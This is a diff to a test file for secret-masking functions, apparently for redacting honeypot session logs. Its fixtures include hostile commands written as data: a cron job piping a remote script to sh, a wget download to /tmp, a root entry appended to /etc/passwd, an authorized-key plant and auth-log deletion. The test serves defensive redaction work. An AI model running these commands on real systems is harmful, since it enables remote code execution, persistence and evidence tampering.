@@ -1,5 +1,5 @@
 import assert from "node:assert/strict";
-import { maskSecrets } from "../../src/cowrie/session_secrets.ts";
+import { maskSecrets, maskUrl } from "../../src/cowrie/session_secrets.ts";
 
 Deno.test("maskSecrets() takes passwords out of commands that set or pass them", () => {
   const masked: Readonly<Record<string, string>> = {
@@ -33,6 +33,46 @@ Deno.test("maskSecrets() takes passwords out of commands that set or pass them",
       "git clone https://***@github.com/a/b",
     "x AKIAABCDEFGHIJKLMNOP": "x ***",
     "bot 1234567890:AAabcdefghijklmnopqrstuvwxyz0123456": "bot ***",
+    "curl https://a/bot1234567890:AAabcdefghijklmnopqrstuvwxyz0123456/x": "curl https://a/bot***/x",
+    "curl -uadmin:hunter2 a": "curl -u*** a",
+    "curl -sku admin:hunter2 a": "curl -sku *** a",
+    "curl -u 'admin':'hunter2' a": "curl -u *** a",
+    "curl -x u:hunter2@203.0.113.9:80 a": "curl -x ***@203.0.113.9:80 a",
+    "lftp -u a,hunter2 b": "lftp -u *** b",
+    "smbclient -U 'a%hunter2' //b": "smbclient -U *** //b",
+    "mysql -p$'hunter2' -e x": "mysql -p*** -e x",
+    "tool --password=a\\ hunter2 y": "tool --password=*** y",
+    "PASS='a'\"hunter2\" x": "PASS=*** x",
+    'curl -d "{\\"password\\":\\"hunter2\\",\\"a\\":1}" b': 'curl -d "{\\"password\\":***" b',
+    'curl -d \'{"password":"hunter2","url":"http://a"}\' b':
+      'curl -d \'{"password":***,"url":"http://a"}\' b',
+    'curl -H "Cookie: a=hunter2; b=hunter2" c': 'curl -H "Cookie: ***" c',
+    "curl -b PHPSESSID=hunter2 a": "curl -b PHPSESSID=*** a",
+    "mysqladmin -u root password 'hunter2'": "mysqladmin -u root password ***",
+    "mysql -e \"ALTER USER a IDENTIFIED BY 'hunter2'\"":
+      'mysql -e "ALTER USER a IDENTIFIED BY ***"',
+    "psql -c \"ALTER USER a WITH PASSWORD 'hunter2'\"": 'psql -c "ALTER USER a WITH PASSWORD ***"',
+    "redis-cli config set requirepass hunter2": "redis-cli config set requirepass ***",
+    "redis-cli AUTH hunter2": "redis-cli AUTH ***",
+    "aws configure set aws_secret_access_key hunter2":
+      "aws configure set aws_secret_access_key ***",
+    "docker login -u a -p hunter2": "docker login -u a -p ***",
+    "unzip -P hunter2 a.zip": "unzip -P *** a.zip",
+    "openssl enc -k hunter2 -in a": "openssl enc -k *** -in a",
+    "htpasswd -nb a hunter2": "htpasswd -nb a ***",
+    'usermod -p $(perl -e \'print crypt("hunter2","ab")\') a':
+      "usermod -p *** -e 'print crypt(***,\"ab\")') a",
+    "echo 'a:$6$salt$hunter2hunter2:0:0::/:/bin/sh' >> /etc/passwd":
+      "echo 'a:***:0:0::/:/bin/sh' >> /etc/passwd",
+    "(echo hunter2; echo hunter2) | passwd root": "( *** ) | passwd root",
+    "cd /; { echo hunter2; echo hunter2; } | passwd": "cd /; { *** } | passwd",
+    "echo hunter2 | (passwd root)": "echo *** | (passwd root)",
+    "cat <<EOF | chpasswd\nroot:hunter2\nEOF": "cat *** | chpasswd ***",
+    "chpasswd <<EOF\\x0aroot:hunter2\\x0aEOF": "chpasswd <<EOF ***",
+    "cat <<EOF|chpasswd\\x0aroot:hunter2\\x0aEOF; \\x01": "cat *** |chpasswd ***",
+    "cd /\\x0apasswd <<< hunter2\\x0aid": "cd /\\x0apasswd <<< ***\\x0aid",
+    "chpasswd < <(echo root:hunter2)": "chpasswd < <(echo root:***)",
+    "echo root:hunter2 > /tmp/p; chpasswd < /tmp/p": "echo root:*** > /tmp/p; chpasswd < /tmp/p",
   };
   for (const [command, expected] of Object.entries(masked)) {
     assert.equal(maskSecrets(command), expected);
@@ -54,6 +94,12 @@ Deno.test("maskSecrets() leaves commands alone that have no secret", () => {
       "ls -la /home; ps aux | grep -v auth",
       'echo "ssh-rsa AAAAB3NzaC1yc2E= a" >> .ssh/authorized_keys',
       "kill -9 $(pgrep -f bot); rm -rf /var/log/auth.log",
+      "date -u +%s; docker run -p 80:80 -v /:/mnt a",
+      "sqlmap -u http://203.0.113.9/?id=1",
+      "wget -U 'Mozilla/5.0 (X11, a)' -P /tmp http://203.0.113.9/x",
+      "ssh-keygen -t rsa -N '' -f k; git clone git@example.org:a/b",
+      "grep -r password /var/www; awk -F: '{print $1}' /etc/passwd",
+      "(crontab -l; echo '* * * * * curl http://203.0.113.9:80/a@b|sh') | crontab -",
     ]
   ) assert.equal(maskSecrets(command), command);
 });
@@ -70,6 +116,14 @@ Deno.test("maskSecrets() takes time in proportion to the command", () => {
       "<<<passwd ",
       "htpasswd -b ",
       "|sudo -a ",
+      "(a)|passwd ",
+      "cookie:",
+      "identified by ",
+      "$6$a",
+      "<<a|passwd\n",
+      "<<a|",
+      "htpasswd -",
+      "chpasswd a:",
     ]
   ) {
     const of = (times: number) => {
@@ -79,5 +133,26 @@ Deno.test("maskSecrets() takes time in proportion to the command", () => {
       return performance.now() - begun;
     };
     assert.ok(of(65_536) < 4_000, part);
+  }
+});
+
+Deno.test("maskUrl() takes secrets out of every part of an address", () => {
+  const masked: Readonly<Record<string, string>> = {
+    "ftp://a:hunter2@203.0.113.9/x": "ftp://203.0.113.9/x",
+    "http://203.0.113.9/x;password=hunter2": "http://203.0.113.9/x;password=***",
+    "http://203.0.113.9/x#token=hunter2": "http://203.0.113.9/x#token=***",
+    "http://203.0.113.9/?a[password]=hunter2": "http://203.0.113.9/?a%5Bpassword%5D=***",
+    "http://203.0.113.9/?p%61ss=hunter2": "http://203.0.113.9/?pass=***",
+    "http://203.0.113.9/?X-Amz-Signature=hunter2": "http://203.0.113.9/?X-Amz-Signature=***",
+    "http://203.0.113.9/?u=http://a:hunter2@b/": "http://203.0.113.9/?u=http%3A%2F%2F***%40b%2F",
+    "http://203.0.113.9/?x=ghp_0123456789abcdefghij0123456789abcdef": "http://203.0.113.9/?x=***",
+    "https://a.example/bot1234567890:AAabcdefghijklmnopqrstuvwxyz0123456/x":
+      "https://a.example/bot***/x",
+  };
+  for (const [url, expected] of Object.entries(masked)) {
+    assert.equal(maskUrl(new URL(url)).href, expected);
+  }
+  for (const url of ["http://203.0.113.9/a:b/x.sh?id=1&cmd=cd+/tmp#a", "tftp://203.0.113.9/x"]) {
+    assert.equal(maskUrl(new URL(url)).href, url);
   }
 });
